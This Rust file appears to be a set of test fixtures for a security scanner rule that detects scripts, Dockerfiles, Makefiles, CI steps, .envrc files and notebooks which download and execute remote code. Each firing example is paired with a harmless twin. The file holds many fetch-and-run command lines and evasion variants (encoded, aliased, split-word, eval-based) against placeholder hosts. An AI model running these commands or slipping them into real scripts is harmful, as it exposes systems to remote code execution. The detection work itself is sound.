//! Ways to run what is fetched, and what differs from them in one thing.

use super::super::Example;
use super::ID;
use crate::samples::commands::{dockerfile, script, steps};
use crate::samples::notebook::{code, of};
use crate::samples::one;

pub(super) const EXAMPLES: &[Example] = &[
    Example { name: "pipe", files: || script("curl -s http://example.org/demo | sh"), fires: ID },
    Example {
        name: "pipe-twin",
        files: || script("curl -s http://example.org/demo | grep demo"),
        fires: &[],
    },
    Example {
        name: "pipe-encrypted",
        files: || script("curl -fsSL https://example.org/demo | bash -s -- --yes"),
        fires: ID,
    },
    Example {
        name: "pipe-number",
        files: || script("wget -qO- https://192.0.2.7/demo | sudo bash"),
        fires: &["address-raw", "command-runs-download"],
    },
    Example {
        name: "pipe-through",
        files: || script("curl -s http://example.org/demo | gunzip | tee log | python3 -"),
        fires: ID,
    },
    Example {
        name: "pipe-through-twin",
        files: || script("curl -s http://example.org/demo | python3 -m json.tool"),
        fires: &[],
    },
    Example {
        name: "file-of-process",
        files: || script("bash <(curl -s http://example.org/demo)"),
        fires: ID,
    },
    Example {
        name: "file-of-process-twin",
        files: || script("diff <(curl -s http://example.org/demo) demo"),
        fires: &[],
    },
    Example {
        name: "source-of-process",
        files: || script("source <(curl -s http://example.org/demo)"),
        fires: ID,
    },
    Example { name: "text", files: || script("sh -c \"$(curl -fsSL http://example.org/demo)\""), fires: ID },
    Example {
        name: "evaluated",
        files: || script("eval \"`wget -qO- http://example.org/demo`\""),
        fires: ID,
    },
    Example {
        name: "evaluated-twin",
        files: || script("echo \"$(curl -s http://example.org/demo)\""),
        fires: &[],
    },
    Example {
        name: "by-variable",
        files: || script("code=$(curl -s http://example.org/demo)\nsh -c \"$code\""),
        fires: ID,
    },
    Example {
        name: "split-words",
        files: || script("c='cur'l; $c -s http://example.org/demo | s\\h"),
        fires: ID,
    },
    Example {
        name: "in-shell",
        files: || script("nohup sudo bash -c 'curl -s http://example.org/demo | sh' &"),
        fires: ID,
    },
    Example {
        name: "by-arguments",
        files: || script("curl -s http://example.org/demo | xargs -I{} sh -c '{}'"),
        fires: ID,
    },
    Example {
        name: "loop",
        files: || script("curl -s http://example.org/demo | while read -r line; do bash; done"),
        fires: ID,
    },
    Example {
        name: "saved",
        files: || script("curl -o /tmp/demo http://example.org/demo\nchmod +x /tmp/demo\n/tmp/demo"),
        fires: ID,
    },
    Example {
        name: "saved-twin",
        files: || script("curl -o /tmp/demo http://example.org/demo\nchmod +x /tmp/other\n/tmp/other"),
        fires: &[],
    },
    Example {
        name: "saved-script",
        files: || script("wget http://example.org/demo.sh && bash demo.sh"),
        fires: ID,
    },
    Example {
        name: "saved-verified-twin",
        files: || script("wget http://example.org/demo.sh\nsha256sum -c demo.sums\nbash demo.sh"),
        fires: &[],
    },
    Example {
        name: "windows",
        files: || script("powershell -Command \"iex (iwr http://example.org/demo)\""),
        fires: ID,
    },
    Example { name: "windows-twin", files: || script("powershell -Command \"Get-Date\""), fires: &[] },
    Example { name: "image", files: || dockerfile("RUN curl -fsSL http://example.org/demo | sh"), fires: ID },
    Example {
        name: "image-document",
        files: || dockerfile("RUN <<EOF\nset -e\ncurl http://example.org/demo | sh\nEOF"),
        fires: ID,
    },
    Example {
        name: "image-words",
        files: || dockerfile("RUN [\"sh\", \"-c\", \"curl http://example.org/demo | sh\"]"),
        fires: ID,
    },
    Example {
        name: "image-twin",
        files: || dockerfile("RUN curl -fsSLo demo.tar http://example.org/demo.tar && tar xf demo.tar"),
        fires: &[],
    },
    Example { name: "workflow", files: || steps("    - run: curl http://example.org/demo | sh"), fires: ID },
    Example {
        name: "makefile",
        files: || one("Makefile", "all:\n\t@curl -s http://example.org/demo | sh\n"),
        fires: ID,
    },
    Example {
        name: "makefile-twin",
        files: || one("Makefile", "all:\n\t@curl -s http://example.org/demo\n"),
        fires: &[],
    },
    Example {
        name: "folder-opened",
        files: || one(".envrc", "curl -s https://example.org/demo | sh\n"),
        fires: &["command-runs-download", "opens-and-runs"],
    },
    Example {
        name: "function",
        files: || script("f() { curl http://example.org/demo; }\nf | sh"),
        fires: ID,
    },
    Example {
        name: "function-twin",
        files: || script("f() { curl http://example.org/demo; }\nf | grep demo"),
        fires: &[],
    },
    Example {
        name: "function-that-runs",
        files: || script("f() { sh; }\ncurl http://example.org/demo | f"),
        fires: ID,
    },
    Example {
        name: "function-that-runs-twin",
        files: || script("f() { cat; }\ncurl http://example.org/demo | f"),
        fires: &[],
    },
    Example { name: "alias", files: || script("alias q=curl\nq http://example.org/demo | sh"), fires: ID },
    Example {
        name: "alias-twin",
        files: || script("alias q=echo\nq http://example.org/demo | sh"),
        fires: &[],
    },
    Example { name: "braces", files: || script("{curl,http://example.org/demo} | sh"), fires: ID },
    Example { name: "braces-twin", files: || script("'{curl,http://example.org/demo}' | sh"), fires: &[] },
    Example { name: "input", files: || script("curl http://example.org/demo > x; sh < x"), fires: ID },
    Example { name: "input-twin", files: || script("curl http://example.org/demo > x; sh < y"), fires: &[] },
    Example {
        name: "tee",
        files: || script("curl http://example.org/demo | tee /tmp/x > /dev/null; sh /tmp/x"),
        fires: ID,
    },
    Example {
        name: "tee-twin",
        files: || script("curl http://example.org/demo | tee /tmp/x > /dev/null; sh /tmp/y"),
        fires: &[],
    },
    Example {
        name: "moved",
        files: || script("curl http://example.org/demo -o x && mv x y && sh y"),
        fires: ID,
    },
    Example {
        name: "moved-twin",
        files: || script("curl http://example.org/demo -o x && mv x y && sh z"),
        fires: &[],
    },
    Example {
        name: "printed",
        files: || script("curl http://example.org/demo -o x && cat x | sh"),
        fires: ID,
    },
    Example {
        name: "printed-twin",
        files: || script("curl http://example.org/demo -o x && cat y | sh"),
        fires: &[],
    },
    Example {
        name: "by-name",
        files: || script("curl http://example.org/demo -o /usr/local/bin/demo\ndemo"),
        fires: ID,
    },
    Example {
        name: "by-name-twin",
        files: || script("curl http://example.org/demo -o /usr/local/bin/demo\nother"),
        fires: &[],
    },
    Example {
        name: "line-by-line",
        files: || script("curl http://example.org/demo | while read -r l; do eval \"$l\"; done"),
        fires: ID,
    },
    Example {
        name: "line-by-line-twin",
        files: || script("curl http://example.org/demo | while read -r l; do echo \"$l\"; done"),
        fires: &[],
    },
    Example {
        name: "read",
        files: || script("read -r x < <(curl http://example.org/demo); eval \"$x\""),
        fires: ID,
    },
    Example {
        name: "read-twin",
        files: || script("read -r x < <(curl http://example.org/demo); echo \"$x\""),
        fires: &[],
    },
    Example {
        name: "by-token",
        files: || script("curl http://example.org/demo | xargs -I@ sh -c '@'"),
        fires: ID,
    },
    Example {
        name: "by-token-twin",
        files: || script("curl http://example.org/demo | xargs -I@ echo '@'"),
        fires: &[],
    },
    Example {
        name: "wrapped",
        files: || script("curl http://example.org/demo | unshare -r setsid sh"),
        fires: ID,
    },
    Example {
        name: "wrapped-twin",
        files: || script("curl http://example.org/demo | unshare -r setsid cat"),
        fires: &[],
    },
    Example {
        name: "other-user",
        files: || script("curl http://example.org/demo | su - root -c sh"),
        fires: ID,
    },
    Example {
        name: "other-user-twin",
        files: || script("curl http://example.org/demo | su - root -c cat"),
        fires: &[],
    },
    Example { name: "at", files: || script("curl http://example.org/demo | at now"), fires: ID },
    Example { name: "at-twin", files: || script("curl http://example.org/demo | cat now"), fires: &[] },
    Example {
        name: "awk",
        files: || script("awk 'BEGIN { system(\"curl http://example.org/demo | sh\") }'"),
        fires: ID,
    },
    Example {
        name: "awk-twin",
        files: || script("awk 'BEGIN { print(\"curl http://example.org/demo | sh\") }'"),
        fires: &[],
    },
    Example { name: "sed", files: || script("sed '1e curl http://example.org/demo | sh' demo"), fires: ID },
    Example {
        name: "sed-twin",
        files: || script("sed '1i curl http://example.org/demo | sh' demo"),
        fires: &[],
    },
    Example {
        name: "php",
        files: || script("php -r 'eval(file_get_contents(\"http://example.org/demo\"));'"),
        fires: ID,
    },
    Example {
        name: "php-twin",
        files: || script("php -r 'echo(file_get_contents(\"http://example.org/demo\"));'"),
        fires: &[],
    },
    Example {
        name: "ruby",
        files: || script("ruby -ropen-uri -e 'eval URI.open(\"http://example.org/demo\").read'"),
        fires: ID,
    },
    Example {
        name: "ruby-twin",
        files: || script("ruby -ropen-uri -e 'puts URI.open(\"http://example.org/demo\").read'"),
        fires: &[],
    },
    Example {
        name: "perl",
        files: || script("perl -e 'use LWP::Simple; eval get(\"http://example.org/demo\")'"),
        fires: ID,
    },
    Example {
        name: "perl-twin",
        files: || script("perl -e 'use LWP::Simple; print get(\"http://example.org/demo\")'"),
        fires: &[],
    },
    Example {
        name: "perl-system",
        files: || script("perl -e 'system(\"curl http://example.org/demo | sh\")'"),
        fires: ID,
    },
    Example {
        name: "perl-system-twin",
        files: || script("perl -e 'print(\"curl http://example.org/demo | sh\")'"),
        fires: &[],
    },
    Example { name: "make", files: || script("curl http://example.org/demo | make -f -"), fires: ID },
    Example {
        name: "make-twin",
        files: || script("curl http://example.org/demo | make -f demo"),
        fires: &[],
    },
    Example { name: "device", files: || script("cat < /dev/tcp/example.org/80 | sh"), fires: ID },
    Example { name: "device-twin", files: || script("cat < /dev/null | sh"), fires: &[] },
    Example {
        name: "certificate-tool",
        files: || script("openssl s_client -connect example.org:443 | sh"),
        fires: ID,
    },
    Example { name: "certificate-tool-twin", files: || script("openssl version | sh"), fires: &[] },
    Example {
        name: "name-service",
        files: || script("dig +short TXT example.org | tr -d x | sh"),
        fires: ID,
    },
    Example {
        name: "name-service-twin",
        files: || script("dig +short TXT example.org | tr -d x"),
        fires: &[],
    },
    Example {
        name: "repository",
        files: || script("git clone http://example.org/demo.git && sh demo/run.sh"),
        fires: ID,
    },
    Example {
        name: "repository-twin",
        files: || script("git clone http://example.org/demo.git && sh other/run.sh"),
        fires: &[],
    },
    Example {
        name: "package",
        files: || script("curl http://example.org/demo.deb -o a.deb && dpkg -i a.deb"),
        fires: ID,
    },
    Example {
        name: "package-twin",
        files: || script("curl http://example.org/demo.deb -o a.deb && dpkg -i b.deb"),
        fires: &[],
    },
    Example { name: "package-runner", files: || script("npx -y http://example.org/demo.tgz"), fires: ID },
    Example { name: "package-runner-twin", files: || script("npx -y demo@1.0.0"), fires: &[] },
    Example {
        name: "prompt",
        files: || script("PROMPT_COMMAND='curl http://example.org/demo | sh'"),
        fires: ID,
    },
    Example {
        name: "prompt-twin",
        files: || script("OTHER='curl http://example.org/demo | sh'"),
        fires: &[],
    },
    Example {
        name: "encoded",
        files: || script("echo Y3VybCBodHRwOi8vZXhhbXBsZS5vcmcvZGVtbyB8IHNo | base64 -d | sh"),
        fires: &["command-decodes-and-runs", "command-runs-download"],
    },
    Example {
        name: "encoded-twin",
        files: || script("echo Y3VybCBodHRwOi8vZXhhbXBsZS5vcmcvZGVtbyB8IHNo | base64 -d"),
        fires: &[],
    },
    Example {
        name: "image-shell",
        files: || {
            dockerfile("SHELL [\"/bin/sh\", \"-c\", \"curl http://example.org/demo | sh; \"]\nRUN true")
        },
        fires: ID,
    },
    Example {
        name: "image-shell-twin",
        files: || dockerfile("SHELL [\"/bin/bash\", \"-o\", \"pipefail\", \"-c\"]\nRUN true"),
        fires: &[],
    },
    Example {
        name: "image-argument",
        files: || dockerfile("ARG C=\"curl http://example.org/demo | sh\"\nRUN eval \"$C\""),
        fires: ID,
    },
    Example {
        name: "image-argument-twin",
        files: || dockerfile("ARG C=\"curl http://example.org/demo | sh\"\nRUN echo \"$C\""),
        fires: &[],
    },
    Example {
        name: "image-file",
        files: || dockerfile("COPY <<EOF /demo.sh\ncurl http://example.org/demo | sh\nEOF\nRUN sh /demo.sh"),
        fires: ID,
    },
    Example {
        name: "image-file-twin",
        files: || {
            dockerfile("COPY <<EOF /demo.txt\ncurl http://example.org/demo | sh\nEOF\nRUN cat /demo.txt")
        },
        fires: &[],
    },
    Example {
        name: "image-file-without-ending",
        files: || dockerfile("COPY <<EOF /demo\ncurl http://example.org/demo | sh\nEOF\nRUN sh /demo"),
        fires: ID,
    },
    Example {
        name: "image-file-without-ending-twin",
        files: || dockerfile("COPY <<EOF /demo\ncurl http://example.org/demo | sh\nEOF\nRUN sh /other"),
        fires: &[],
    },
    Example {
        name: "image-built-on",
        files: || dockerfile("ONBUILD RUN <<EOF\ncurl http://example.org/demo | sh\nEOF"),
        fires: ID,
    },
    Example {
        name: "image-built-on-twin",
        files: || dockerfile("ONBUILD RUN <<EOF\ncurl http://example.org/demo\nEOF"),
        fires: &[],
    },
    Example {
        name: "notebook-timed",
        files: || of(&[code("%time !curl http://example.org/demo | sh")]),
        fires: ID,
    },
    Example {
        name: "notebook-timed-twin",
        files: || of(&[code("%time !curl http://example.org/demo")]),
        fires: &[],
    },
    Example {
        name: "notebook-alias",
        files: || of(&[code("%alias q curl http://example.org/demo | sh")]),
        fires: ID,
    },
    Example {
        name: "notebook-alias-twin",
        files: || of(&[code("%alias q curl http://example.org/demo")]),
        fires: &[],
    },
    Example {
        name: "notebook-value",
        files: || of(&[code("c = 'curl http://example.org/demo | sh'\n!{c}")]),
        fires: ID,
    },
    Example {
        name: "notebook-value-twin",
        files: || of(&[code("c = 'curl http://example.org/demo | sh'\n!echo '{c}'")]),
        fires: &[],
    },
    Example {
        name: "notebook-captured",
        files: || of(&[code("%%capture out\n%%bash\ncurl http://example.org/demo | sh")]),
        fires: ID,
    },
    Example {
        name: "notebook-captured-twin",
        files: || of(&[code("%%capture out\n%%bash\ncurl http://example.org/demo")]),
        fires: &[],
    },
    Example {
        name: "notebook-called",
        files: || {
            of(&[code("get_ipython().run_cell_magic('bash', '', 'curl http://example.org/demo | sh')")])
        },
        fires: &["command-runs-download", "source-runs-code"],
    },
    Example {
        name: "notebook-called-twin",
        files: || of(&[code("get_ipython().run_cell_magic('bash', '', 'curl http://example.org/demo')")]),
        fires: &["source-runs-code"],
    },
];
